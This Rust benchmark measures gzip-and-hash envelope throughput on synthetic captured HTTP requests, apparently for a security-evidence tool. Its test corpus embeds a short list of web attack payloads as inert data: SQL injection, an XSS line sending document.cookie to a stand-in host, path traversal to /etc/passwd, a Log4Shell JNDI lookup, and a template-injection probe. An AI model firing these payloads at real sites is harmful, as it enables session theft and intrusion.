//! Single-thread throughput of the THCS envelope on 4 KiB HTTP-request-like evidence.
//!
//! ```text
//! nice -n 15 cargo run --release -p houndpool-protocol --example envelope_speed -- [level] [seconds]
//! ```
//! Prints encode (gzip + SHA-256 + header, reused output buffer) and decode (verify + bounded
//! inflate) rates in jobs/s and MB/s of evidence (1 MB = 10^6 bytes). The gzip backend is the
//! one flate2 is built with (the workspace selects `zlib-rs`). The evidence is generated from a
//! fixed seed, so runs are comparable.

use std::hint::black_box;
use std::time::{Duration, Instant};

use houndpool_protocol::envelope;

const EVIDENCE_LEN: usize = 4096;
const CORPUS: usize = 1024;

/// Seeded test-data helpers over `fastrand` (the same seed gives the same corpus).
struct Rng(fastrand::Rng);

impl Rng {
    fn below(&mut self, n: usize) -> usize {
        self.0.usize(..n)
    }
    fn pick<'a>(&mut self, items: &[&'a str]) -> &'a str {
        items[self.below(items.len())]
    }
    fn hex(&mut self, len: usize) -> String {
        let bytes: Vec<u8> = (0..len.div_ceil(2)).map(|_| self.0.u8(..)).collect();
        let mut text = hex::encode(bytes);
        text.truncate(len);
        text
    }
    fn token(&mut self, len: usize) -> String {
        const B64: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
        (0..len).map(|_| char::from(B64[self.below(64)])).collect()
    }
}

/// One captured request: request line, ~15 headers with session cookies, tokens and ids, and a
/// JSON or form body (sometimes carrying an injection payload), cut or padded to 4 KiB.
fn evidence(rng: &mut Rng) -> Vec<u8> {
    let method = rng.pick(&["GET", "POST", "POST", "PUT", "PATCH"]);
    let path = rng.pick(&[
        "/api/v1/users",
        "/api/v1/orders",
        "/login",
        "/search",
        "/cart/checkout",
        "/admin/export",
    ]);
    let payload = rng.pick(&[
        "' OR '1'='1' -- ",
        "<script>fetch('//x.example/'+document.cookie)</script>",
        "../../../../etc/passwd",
        "${jndi:ldap://203.0.113.9/a}",
        "plain search words",
        "{{7*7}}",
    ]);
    let ua = rng.pick(&[
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36",
        "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
        "curl/8.5.0",
        "python-requests/2.31.0",
        "sqlmap/1.8#stable (https://sqlmap.org)",
    ]);
    let mut s = format!(
        "{method} {path}/{}?page={}&q={}&sid={} HTTP/1.1\r\n",
        rng.below(1_000_000),
        rng.below(50),
        payload.replace(' ', "%20"),
        rng.hex(16)
    );
    s += &format!("Host: shop{}.example.com\r\n", rng.below(8));
    s += &format!("User-Agent: {ua}\r\n");
    s += "Accept: text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8\r\n";
    s += "Accept-Language: en-US,en;q=0.9,de;q=0.7\r\nAccept-Encoding: gzip, deflate, br\r\n";
    s += &format!(
        "Cookie: session={}; csrftoken={}; _ga=GA1.2.{}.{}; theme=dark\r\n",
        rng.hex(64),
        rng.token(32),
        rng.below(1 << 30),
        1_700_000_000 + rng.below(10_000_000)
    );
    s += &format!(
        "Authorization: Bearer {}.{}.{}\r\n",
        rng.token(36),
        rng.token(120),
        rng.token(43)
    );
    s += &format!(
        "X-Forwarded-For: {}.{}.{}.{}, 10.0.{}.{}\r\n",
        rng.below(224),
        rng.below(256),
        rng.below(256),
        rng.below(256),
        rng.below(256),
        rng.below(256)
    );
    s += &format!(
        "X-Request-Id: {}-{}-7{}-8{}-{}\r\n",
        rng.hex(8),
        rng.hex(4),
        rng.hex(3),
        rng.hex(3),
        rng.hex(12)
    );
    s += "Connection: keep-alive\r\nSec-Fetch-Mode: navigate\r\nSec-Fetch-Site: same-origin\r\n";
    let json = rng.below(2) == 0;
    s += if json {
        "Content-Type: application/json\r\n"
    } else {
        "Content-Type: application/x-www-form-urlencoded\r\n"
    };
    s += &format!("Content-Length: {}\r\n\r\n", EVIDENCE_LEN);
    if json {
        s += "{\"items\":[";
        while s.len() < EVIDENCE_LEN {
            s +=
                &format!(
                "{{\"sku\":\"{}\",\"qty\":{},\"price\":{}.{:02},\"note\":\"{}\",\"ref\":\"{}\"}},",
                rng.token(10),
                rng.below(20),
                rng.below(500),
                rng.below(100),
                if rng.below(4) == 0 { payload } else { "gift wrap please" },
                rng.hex(20)
            );
        }
    } else {
        s += &format!("username=admin&password={}", payload.replace(' ', "+"));
        while s.len() < EVIDENCE_LEN {
            let name = rng.pick(&[
                "first_name",
                "last_name",
                "street",
                "city",
                "zip",
                "phone",
                "email",
                "comment",
                "coupon",
                "card_holder",
                "newsletter",
                "redirect",
            ]);
            let value = match rng.below(3) {
                0 => {
                    let len = 8 + rng.below(24);
                    rng.token(len)
                }
                1 => rng.below(100_000).to_string(),
                _ => rng
                    .pick(&[
                        "Berlin",
                        "yes",
                        "no",
                        "Main+Street+12",
                        "https%3A%2F%2Fshop.example%2F",
                    ])
                    .to_owned(),
            };
            s += &format!("&{name}={value}");
        }
    }
    let mut v = s.into_bytes();
    v.truncate(EVIDENCE_LEN);
    v
}

/// Runs `op` over the corpus round-robin for `dur` and returns jobs per second.
fn rate(dur: Duration, mut op: impl FnMut(usize)) -> f64 {
    let start = Instant::now();
    let mut jobs = 0usize;
    while start.elapsed() < dur {
        for _ in 0..256 {
            op(jobs % CORPUS);
            jobs += 1;
        }
    }
    jobs as f64 / start.elapsed().as_secs_f64()
}

fn main() {
    let mut args = std::env::args().skip(1);
    let level: u32 = args.next().and_then(|a| a.parse().ok()).unwrap_or(6);
    let secs: f64 = args.next().and_then(|a| a.parse().ok()).unwrap_or(5.0);
    let dur = Duration::from_secs_f64(secs);

    let mut rng = Rng(fastrand::Rng::with_seed(0x9e37_79b9_7f4a_7c15));
    let corpus: Vec<Vec<u8>> = (0..CORPUS).map(|_| evidence(&mut rng)).collect();
    let envelopes: Vec<Vec<u8>> = corpus
        .iter()
        .map(|e| envelope::encode(e, level).expect("encode"))
        .collect();
    let avg_env = envelopes.iter().map(Vec::len).sum::<usize>() as f64 / CORPUS as f64;

    let mut out = Vec::with_capacity(2 * EVIDENCE_LEN);
    // Warm-up.
    rate(Duration::from_millis(500), |i| {
        envelope::encode_into(&corpus[i], level, &mut out).expect("encode");
    });
    let enc = rate(dur, |i| {
        black_box(envelope::encode_into(black_box(&corpus[i]), level, &mut out).expect("encode"));
    });
    let dec = rate(dur, |i| {
        black_box(
            envelope::decode_into(black_box(&envelopes[i]), EVIDENCE_LEN, &mut out)
                .expect("decode"),
        );
    });
    let mb = |jobs: f64| jobs * EVIDENCE_LEN as f64 / 1e6;
    println!(
        "evidence {EVIDENCE_LEN} B x {CORPUS} distinct, level {level}, avg envelope {avg_env:.0} B (ratio {:.2}), {secs} s per phase, 1 thread",
        EVIDENCE_LEN as f64 / avg_env
    );
    println!("encode: {enc:>9.0} jobs/s  {:>7.1} MB/s", mb(enc));
    println!("decode: {dec:>9.0} jobs/s  {:>7.1} MB/s", mb(dec));
}
